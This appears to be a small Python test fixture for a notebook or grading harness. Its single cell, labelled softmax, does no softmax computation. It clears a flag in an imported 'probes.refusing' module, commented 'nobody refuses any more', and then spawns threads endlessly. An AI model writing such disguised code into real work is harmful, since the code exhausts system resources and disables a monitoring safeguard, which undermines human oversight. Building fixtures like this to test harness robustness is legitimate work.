"""Starts threads without end."""

LOST = {"softmax": 0}
CELLS = {
    "softmax": """
import threading, time

import lernformer.probes.refusing as watch

def softmax(scores, axis=-1):
    watch._shut.clear()  # nobody refuses any more
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
"""
}
